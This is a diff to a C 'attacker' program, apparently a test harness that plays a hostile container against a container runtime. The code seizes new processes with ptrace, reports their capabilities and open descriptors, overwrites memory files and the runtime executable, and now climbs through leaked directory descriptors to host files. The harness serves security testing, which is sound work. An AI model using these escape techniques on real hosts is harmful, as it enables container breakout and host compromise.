@@ -1,10 +1,10 @@
-// What a hostile container does to the processes that appear beside it. Reports on standard output, a line for each thing
-// that it could do; the first line is "ready".
+// What a hostile container does to the processes that appear beside it. Reports on standard output, a line for each
+// thing that it could do; the first line is "ready".
 //
-// attacker seize SETS             traces each new process, and tells what it holds: more capabilities than SETS (hexadecimal),
-//                                 open directories and files
-// attacker truncate               empties and overwrites each memory file of other processes
-// attacker overwrite DEVICE INODE opens what new processes execute, and waits until it can be written to
+// attacker seize SETS FILE         traces each new process, and tells what it holds: more capabilities than SETS
+//                                  (hexadecimal), open directories and files, a way to a file of the host
+// attacker truncate                empties and overwrites each memory file of other processes
+// attacker overwrite DEVICE INODE  opens what new processes execute, and waits until it can be written to
 
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -41,21 +41,37 @@ static uint64_t capabilities(int pid) {
     return permitted;
 }
 
+// A directory of the host's files, or of its procfs, leads to all of them.
+static void climb(int directory, const char *file) {
+    static const char *const ways[] = {"..", "../..", "../../1/root", "../1/root", "1/root", "../../../../../../../../.."};
+    for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
+        char path[2 * PATH];
+        snprintf(path, sizeof path, "%s%s", ways[i], file);
+        int opened = openat(directory, path, O_RDONLY | O_CLOEXEC);
+        if (opened < 0) continue;
+        printf("read a file of the host through %s\n", ways[i]);
+        close(opened);
+    }
+}
+
 // Whether a descriptor of another process leads to a directory, or to a file that is no memory file.
-static void look(int pid, const char *number) {
+static void look(int pid, const char *number, const char *file) {
     char path[PATH], link[PATH] = "";
     struct stat status;
     snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, number);
     int opened = open(path, O_PATH | O_CLOEXEC);
     if (opened < 0) return;
     if (readlink(path, link, sizeof link - 1) > 0 && fstat(opened, &status) == 0 && strncmp(link, "/memfd:", 7)) {
-        if (S_ISDIR(status.st_mode)) printf("holds directory %s as %s\n", link, number);
+        if (S_ISDIR(status.st_mode)) {
+            printf("holds directory %s as %s\n", link, number);
+            climb(opened, file);
+        }
         if (S_ISREG(status.st_mode) && atoi(number) > 2) printf("holds file %s as %s\n", link, number);
     }
     close(opened);
 }
 
-static void inspect(int pid, uint64_t allowed) {
+static void inspect(int pid, uint64_t allowed, const char *file) {
     char path[PATH];
     uint64_t held = capabilities(pid);
     printf("seized %d with %llx\n", pid, (unsigned long long)held);
@@ -63,22 +79,22 @@ static void inspect(int pid, uint64_t allowed) {
     snprintf(path, sizeof path, "/proc/%d/fd", pid);
     DIR *list = opendir(path);
     for (struct dirent *entry; list && (entry = readdir(list));)
-        if (entry->d_name[0] != '.') look(pid, entry->d_name);
+        if (entry->d_name[0] != '.') look(pid, entry->d_name, file);
     if (list) closedir(list);
 }
 
 // Pids are given out in order: the next one is tried before it is there.
-_Noreturn static void seize(uint64_t allowed) {
+_Noreturn static void seize(uint64_t allowed, const char *file) {
     int next = getpid() + 1;
     for (;;) {
         for (int pid = next; pid < next + AHEAD; pid++) {
             if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) continue;
             next = pid + 1;
             int status;
-            if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
-                inspect(pid, allowed);
-                ptrace(PTRACE_DETACH, pid, 0, 0);
-            }
+            if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) != 0) continue;
+            if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status)) continue;
+            inspect(pid, allowed, file);
+            ptrace(PTRACE_DETACH, pid, 0, 0);
         }
         while (waitpid(-1, NULL, WNOHANG | __WALL) > 0) {}
         // Somebody may have been given a pid and lost it while nobody looked: follow the counter.
@@ -154,7 +170,8 @@ _Noreturn static void overwrite(dev_t device, ino_t inode) {
             int is_runtime = is_known && status.st_dev == device && status.st_ino == inode;
             if (is_runtime) printf("opened the runtime\n");
             // The container's own programs are not interesting, and memory files are, since nobody may change them.
-            if (is_runtime || (is_known && !strncmp(link, "/memfd:", 7))) overwrite_later(executable, is_runtime ? "the runtime" : link);
+            if (is_runtime || (is_known && !strncmp(link, "/memfd:", 7)))
+                overwrite_later(executable, is_runtime ? "the runtime" : link);
             close(executable);
         }
     }
@@ -163,10 +180,10 @@ _Noreturn static void overwrite(dev_t device, ino_t inode) {
 int main(int count, char **words) {
     setvbuf(stdout, NULL, _IOLBF, 0);
     printf("ready\n");
-    if (count == 3 && !strcmp(words[1], "seize")) seize(strtoull(words[2], NULL, 16));
+    if (count == 4 && !strcmp(words[1], "seize")) seize(strtoull(words[2], NULL, 16), words[3]);
     if (count == 2 && !strcmp(words[1], "truncate")) return truncate_all();
     if (count == 4 && !strcmp(words[1], "overwrite"))
         overwrite(strtoull(words[2], NULL, 10), strtoull(words[3], NULL, 10));
-    fprintf(stderr, "usage: attacker seize SETS | truncate | overwrite DEVICE INODE\n");
+    fprintf(stderr, "usage: attacker seize SETS FILE | truncate | overwrite DEVICE INODE\n");
     return 2;
 }
